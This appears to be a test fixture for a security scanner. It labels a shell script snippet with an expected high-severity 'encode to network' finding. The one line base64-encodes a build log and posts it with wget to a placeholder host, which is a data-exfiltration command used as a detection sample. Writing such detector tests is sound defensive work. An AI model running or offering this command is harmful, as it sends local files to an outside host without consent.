# expect: shell.encode_to_network high
# path: report.sh
wget --post-data="d=$(base64 build.log)" https://collector.example/
